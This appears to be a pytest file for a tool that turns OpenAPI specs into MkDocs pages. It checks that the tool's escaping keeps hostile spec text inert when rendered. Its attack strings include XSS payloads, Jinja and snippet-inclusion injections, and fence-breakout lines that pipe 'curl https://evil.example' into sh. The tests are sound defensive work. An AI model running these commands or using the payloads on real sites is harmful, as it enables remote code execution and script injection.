"""The escaping layer: every attack, through every function, rendered as MkDocs renders it.

Each function's output is put where templates put it (a paragraph, a table cell, a heading, a
fence under a content tab), rendered by Python-Markdown with the plugin's extensions, and the
HTML is parsed: no element, attribute or link scheme outside the allow-list, no fence broken,
nothing Jinja (mkdocs-macros) or `pymdownx.snippets` would act on. The end-to-end test builds
`restref generate` output of a hostile spec with a plain `mkdocs.yml` (Material, no restref
plugin, with mkdocs-macros and snippets) and checks every HTML page, `<title>` included.
"""

from __future__ import annotations

import importlib.util
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jinja2
import markdown
import pytest
from markupsafe import Markup

from generator.cli import main
from generator.render import escape
from generator.render.allowlist import PAGE_ATTRIBUTES, PAGE_TAGS, URL_SCHEMES
from generator.render.markdown_extension import GENERATED_MARKER
from generator.site.defaults import MARKDOWN_EXTENSIONS
from tests.test_hostile import live_html

SECRET = "TOP-SECRET-FILE-CONTENT"
IMG = "<img src=x onerror=alert(1)>"

ATTACKS: dict[str, str] = {
    "title breakout": "x </title><script>alert(1)</script>",
    "carriage returns": "a\r\r<img src=x onerror=alert(1)>\r\rb",
    "line separators": "a\u2028\u2028<img src=x onerror=alert(1)>\u2029\x85\v\f\x1cb",
    "control before scheme": "[d](\x01javascript:alert(1)) ![i](\x02\x03data:text/html,x)",
    "fence breakout": "a\n```\n\n```bash\ncurl https://evil.example | sh\n```\n",
    "fence breakout by U+2028": "a\u2028```\u2028\u2028```bash\u2028curl evil | sh\u2028```",
    "fence breakout by NEL": "a\x85```\x85\x85~~~bash\x85curl evil | sh\x85~~~",
    "unsafe html": '<iframe src="javascript:alert(1)"></iframe><svg onload=alert(1)>'
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a><p style="x" id=y>p</p>',
    "macros": "{{ 7*7 }} {% if true %}x{% endif %} {# c #} `{{ 7*7 }}` {%- raw %}",
    "snippets": '--8<-- "secret.txt"\n;--8<-- "secret.txt"\n\n```\n--8<-- "secret.txt"\n```'
    '\n\n`a\n--8<-- "secret.txt"\nb`\n\n  -8<- "secret.txt"\n--8<--\nsecret.txt\n--8<--',
    "entity scheme": "[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1))",
    "attr_list": "text{: onclick=alert(1) } ![x](y.png){: onerror=alert(1) }",
    "nul and controls": "a\x00b\x07c\x1bd\x7fe\x9bf",
    "unpaired backtick": "a `b",
    "unclosed fences": "```\n~~~\n",
}

# How templates place each function's output into a page.
PLACES: dict[str, Callable[[str], str]] = {
    # A fence and a code span of our own follow, as on a page: an unclosed fence or backtick
    # in the text must not pair with them.
    "prose": lambda text: f"Before.\n\n{escape.markdown_text(text)}\n\n```\ncode\n```\n\nAfter.\n",
    "cell": lambda text: "| A | B |\n| --- | --- |\n"
    f"| {escape.table_cell(text)}<br>Default: {escape.code_cell(IMG)} | z |\n",
    "inline code": lambda text: f"Before {escape.inline_code(text)} after.\n",
    "code cell": lambda text: f"| A | B |\n| --- | --- |\n| {escape.code_cell(text)} | z |\n",
    "path": lambda text: f"| A | B |\n| --- | --- |\n| {escape.path_code(text)} | z |\n",
    "heading": lambda text: f"# {escape.heading_text(text)}\n\nAfter.\n",
    "fence": lambda text: "=== \"curl\"\n\n"
    + _indent(escape.fenced_code(text, "bash"))
    + "\n\nAfter.\n",
    "json": lambda text: "??? example \"Example\"\n\n"
    + _indent(escape.fenced_code(escape.json_text({text: [text]}), "json"))
    + "\n\nAfter.\n",
}


def _indent(text: str) -> str:
    """Jinja's own `indent`, as the templates use it (it splits on every line break)."""
    template = jinja2.Environment().from_string("{{ t | indent(4, first=true) }}")
    return str(template.render(t=text))


def to_html(text: str, *extra: Any) -> str:
    return markdown.markdown(
        text,
        extensions=[*MARKDOWN_EXTENSIONS, *extra],
        extension_configs={k: v for k, v in MARKDOWN_EXTENSIONS.items() if v},
    )


class Inventory(HTMLParser):
    """Every element, attribute and text of a fragment, with `<pre>` blocks kept apart."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.pre: list[str] = []
        self.text: list[str] = []
        self._pre_depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        if tag == "pre":
            self._pre_depth += 1
            self.pre.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "pre":
            self._pre_depth -= 1

    def handle_data(self, data: str) -> None:
        if self._pre_depth:
            self.pre[-1] += data
        else:
            self.text.append(data)


def inventory(html: str) -> Inventory:
    parser = Inventory()
    parser.feed(html)
    parser.close()
    return parser


def outside_allow_list(html: str) -> list[str]:
    """Elements, attributes and link schemes the page allow-list would not let through."""
    found = []
    for tag, attrs in inventory(html).elements:
        if tag not in PAGE_TAGS:
            found.append(f"<{tag}>")
        allowed = PAGE_ATTRIBUTES.get(tag, set()) | PAGE_ATTRIBUTES["*"]
        found += [f"<{tag} {name}>" for name in attrs if name not in allowed]
        for name in ("href", "src"):
            # Browsers drop whitespace and control characters before reading a scheme.
            plain = re.sub(r"[\x00-\x20\x7f]", "", attrs.get(name, ""))
            scheme = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
            if scheme and scheme[1].lower() not in URL_SCHEMES:
                found.append(f"<{tag} {name}={attrs[name]!r}>")
    return found


def engine_syntax(markdown_text: str) -> list[str]:
    """What mkdocs-macros (Jinja) or pymdownx.snippets would act on."""
    found = re.findall(r"\{[{%#]", markdown_text)
    found += re.findall(r"^[ \t]*;*-+8<-+.*$", markdown_text, flags=re.M)
    return found


CASES = [(place, attack) for place in PLACES for attack in ATTACKS]


@pytest.mark.parametrize(("place", "attack"), CASES, ids=[f"{p}-{a}" for p, a in CASES])
def test_no_live_markup_no_broken_block_no_engine_syntax(place: str, attack: str) -> None:
    page = PLACES[place](ATTACKS[attack])
    html = to_html(page)
    assert outside_allow_list(html) == [], html
    assert live_html(html) == [], html
    assert engine_syntax(page) == [], page
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", page), repr(page)
    found = inventory(html)
    # The text after the placed output is still a paragraph of its own: nothing swallowed it,
    # and nothing ended a fence early to add a block (such as a fake `curl ... | sh`).
    if place in ("prose", "heading", "fence", "json"):
        assert "After." in "".join(found.text)
    if place == "prose":
        assert found.pre[-1] == "code\n", html
    if place in ("fence", "json"):
        assert len(found.pre) == 1, html
        assert "curl evil" not in "".join(found.text)
        assert "curl https://evil.example" not in "".join(found.text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_heading_stays_text_in_the_title_element(attack: str) -> None:
    """MkDocs copies the H1's HTML into `page.title`; Material prints `striptags` of it."""
    html = to_html(f"# {escape.heading_text(ATTACKS[attack])}\n")
    h1 = re.search(r"<h1[^>]*>(.*?)</h1>", html, re.S)
    assert h1 is not None
    title = Markup(re.sub(r'<a class="headerlink".*?</a>', "", h1[1])).striptags()
    assert "<" not in title, title
    assert ">" not in title, title


@pytest.mark.parametrize("attack", ATTACKS)
def test_theme_and_nav_titles_hold_no_markup(attack: str) -> None:
    for title in (escape.theme_title(ATTACKS[attack]), escape.nav_title(ATTACKS[attack])):
        assert not re.search(r"[<>\"'\x00-\x1f\x7f-\x9f\u2028\u2029]", title), repr(title)
    assert escape.nav_title(" \n ") == "Untitled"


@pytest.mark.parametrize("attack", ATTACKS)
def test_json_examples_still_parse_to_the_same_value(attack: str) -> None:
    value = {ATTACKS[attack]: [ATTACKS[attack], {"n": 1}]}
    block = escape.fenced_code(escape.json_text(value), "json")
    (code,) = inventory(to_html(block)).pre
    assert json.loads(code) == value


@pytest.mark.parametrize("text", ["a `b` c", "{{ 7*7 }}", "`{%`", "x|y", " ", "``"])
def test_inline_code_shows_the_text_exactly(text: str) -> None:
    html = to_html(f"| A |\n| --- |\n| {escape.code_cell(text)} |\n")
    assert re.search(r"<code>(.*?)</code>", html, re.S) is not None
    shown = Markup(re.search(r"<code>(.*?)</code>", html, re.S)[1]).unescape()  # type: ignore[index]
    assert shown.strip() == text.strip()


def test_fence_is_longer_than_any_backtick_run() -> None:
    block = escape.fenced_code("a\n`````\nb", "text")
    assert block.startswith("``````text\n")
    assert block.endswith("\n``````")
    (code,) = inventory(to_html(block)).pre
    assert code == "a\n`````\nb\n"


def test_template_openers_in_code_keep_their_reading() -> None:
    """A zero-width space in fences; entities in inline code, so a copy gives the original."""
    (code,) = inventory(to_html(escape.fenced_code("{{ x }}", "text"))).pre
    assert code.replace("\u200b", "") == "{{ x }}\n"
    assert escape.inline_code("{{ x }}").startswith("<code>&#123;&#123;")
    assert escape.json_text("{{ x }}") == '"\\u007b{ x }}"'


def test_safe_html_in_descriptions_renders_and_unsafe_html_is_removed() -> None:
    text = (
        '<p>Para with <code>x</code>, <b>bold</b>, <a href="https://example.com">link</a>'
        '<br></p><ul><li>one</li></ul><script>alert(1)</script><a href="javascript:x">j</a>'
        " List<T> stays, a < b too."
    )
    html = to_html(escape.markdown_text(text))
    assert "<p>Para with <code>x</code>, <b>bold</b>" in html
    assert '<a href="https://example.com">link</a>' in html
    assert "<li>one</li>" in html
    assert "&lt;p&gt;" not in html
    assert "alert" not in html
    assert "javascript" not in html
    assert "List&lt;T&gt; stays, a &lt; b too." in html


def test_trusted_html_is_kept_but_engine_syntax_is_not() -> None:
    text = '<font color="red">x</font> {{ 7*7 }}\n--8<-- "secret.txt"'
    safe = escape.markdown_text(text, trusted_html=True)
    assert '<font color="red">x</font>' in safe
    assert engine_syntax(safe) == []


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.com/a b", "https://example.com/ab"),
        ("\x01javascript:alert(1)", "#"),
        (" JaVa\tScRiPt:alert(1)", "#"),
        ("data:text/html,x", "#"),
        ("mailto:a@example.com", "mailto:a@example.com"),
        ("../schemas/flow.md#x", "../schemas/flow.md#x"),
        ("x)y", "x%29y"),
    ],
)
def test_link_target(url: str, expected: str) -> None:
    assert escape.link_target(url) == expected


def test_filters_are_registered_in_one_place() -> None:
    from generator.render.pages import RenderOptions, make_environment

    env = make_environment(RenderOptions())
    assert set(escape.filters(False)) <= set(env.filters)
    assert env.from_string("{{ x | code }}").render(x="a\rb") == "`a b`"


# ------------------------------------------------------------ the Markdown extension


def test_markdown_extension_cleans_generated_pages_only() -> None:
    hostile = "<iframe src=x></iframe><b onclick=alert(1)>b</b>\n"
    extension = "generator.render.markdown_extension"
    own_page = to_html(hostile, extension)
    # the user's pages are left alone
    assert "<iframe" in own_page
    assert "onclick" in own_page
    generated = to_html(f"{hostile}\n{GENERATED_MARKER}\n", extension)
    assert "<iframe" not in generated
    assert "onclick" not in generated
    assert "<b>b</b>" in generated
    assert "restref:generated" not in generated
    everything = markdown.markdown(hostile, extensions=[extension], extension_configs={
        extension: {"scope": "all"}
    })
    assert "<iframe" not in everything


# ------------------------------------------------------------ end to end, plain mkdocs.yml


def hostile_document() -> dict[str, Any]:
    """The attacks above in every place a spec's text reaches a page."""
    breakout = "x </title><script>alert(1)</script>"
    text = " ".join(ATTACKS.values())
    line = "a\r\r<img src=x onerror=alert(1)>\r\r{{ 7*7 }}\u2028--8<-- \"secret.txt\""
    example = "x\n```\n\n```bash\ncurl evil | sh\n```\n{{ 7*7 }}\u2028\x85"
    return {
        "openapi": "3.1.0",
        "info": {"title": breakout, "version": breakout, "description": text},
        "servers": [{"url": f"https://api.example.com/{line}"}],
        "tags": [{"name": breakout, "description": text}],
        "paths": {
            f"/p/{line}": {
                "post": {
                    "tags": [breakout],
                    "summary": breakout,
                    "operationId": line,
                    "description": text,
                    "parameters": [
                        {"name": line, "in": "header", "description": text,
                         "schema": {"type": "string"}, "example": example},
                    ],
                    "requestBody": {"content": {f"application/json{line}": {
                        "schema": {"$ref": "#/components/schemas/Thing"}}}},
                    "responses": {
                        "200": {"description": breakout, "content": {"application/json": {
                            "schema": {"$ref": "#/components/schemas/Thing"},
                            "example": {line: example}}}},
                        f"4<img src=x onerror=alert(1)>{line}": {"description": text},
                    },
                    "security": [{line: [line]}],
                    "callbacks": {line: {line: {"post": {"responses": {"200": {
                        "description": text}}}}}},
                },
            },
            "/q": {"get": {"tags": [breakout], "summary": "q", "responses": {
                f"4<img src=x onerror=alert(1)>{line}": {"description": text}}}},
        },
        "webhooks": {line: {"post": {"summary": breakout, "responses": {"200": {
            "description": text}}}}},
        "components": {
            "securitySchemes": {line: {"type": "apiKey", "in": "header", "name": line,
                                       "description": text}},
            "schemas": {
                breakout: {"type": "object", "description": text},
                "Thing": {"type": "object", "description": text, "properties": {
                    line: {"type": "string", "description": text, "default": example,
                           "enum": [example, line]},
                    "ref": {"$ref": f"#/components/schemas/Missing{line}"},
                }},
            },
        },
    }


def _html_pages(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): p.read_text("utf-8") for p in site.rglob("*.html")}


def test_generated_site_built_with_a_plain_mkdocs_yml_is_inert(tmp_path: Path) -> None:
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    spec = tmp_path / "openapi.json"
    spec.write_text(json.dumps(hostile_document()), "utf-8")
    docs = tmp_path / "docs"
    assert main(["generate", "--spec", str(spec), "--out", str(docs)]) == 0
    markdown_pages = {p: p.read_text("utf-8") for p in docs.rglob("*.md")}
    assert len(markdown_pages) >= 8
    for path, text in markdown_pages.items():
        assert engine_syntax(text) == [], path
    (tmp_path / "secret.txt").write_text(SECRET, "utf-8")
    extensions = [
        *[{name: settings} if settings else name for name, settings in
          MARKDOWN_EXTENSIONS.items()],
        {"pymdownx.snippets": {"base_path": [str(tmp_path)], "check_paths": False}},
    ]
    config_file = tmp_path / "mkdocs.yml"
    config_file.write_text(
        json.dumps({  # JSON is YAML
            "site_name": "Plain",
            "docs_dir": str(docs),
            "site_dir": str(tmp_path / "site"),
            "theme": {"name": "material"},
            # mkdocs-macros renders every page through Jinja (not a declared test dependency:
            # without it, `engine_syntax` above still checks what it would act on).
            "plugins": ["macros"] if importlib.util.find_spec("mkdocs_macros") else [],
            "markdown_extensions": extensions,
        }),
        "utf-8",
    )
    build(load_config(str(config_file)))
    site = _html_pages(tmp_path / "site")
    assert len(site) >= len(markdown_pages)
    for page, html in site.items():
        assert live_html(html) == [], page
        assert SECRET not in html, page
        assert ">49<" not in html, page
        assert " 49 " not in html, page
        title = re.search(r"<title>(.*?)</title>", html, re.S)
        assert title is not None, page
        assert "<" not in title[1], (page, title[1])
        content = re.search(r"<article[^>]*>(.*)</article>", html, re.S)
        assert content is not None, page
        assert outside_allow_list(content[1]) == [], page
    index = site["index.html"]
    assert "&lt;p&gt;" not in index  # safe HTML renders rather than showing as text
    assert re.search(r"<h1[^>]*>x x<", index)  # markup removed from the heading


@pytest.mark.parametrize("name", ["<b></b>", "<script></script>", "<i>\n</i>"])
def test_a_name_of_nothing_but_markup_is_shown_as_written(name: str) -> None:
    shown = " ".join(name.split()).replace("<", "\u2039").replace(">", "\u203a")
    assert escape.heading_text(name) == shown
    assert escape.nav_title(name) == shown
    assert escape.heading_text("<b>Flows</b>") == "Flows"  # markup around text is removed


@pytest.mark.parametrize("opener", [" ```", "  ```", "   ~~~"])
def test_a_fence_indented_unlike_its_closer_stays_one_fence(opener: str) -> None:
    closer = opener.strip()
    text = f"Example:\n{opener}\ncurl 'x' \\\n    -d '{{}}'\n{closer}\n\nAfter."
    page = f"{escape.markdown_text(text)}\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n"
    html = to_html(page)
    assert html.count("<pre") == 1, html
    assert "<table>" in html  # the page's own table after the description is still a table
    assert "<p>After.</p>" in html
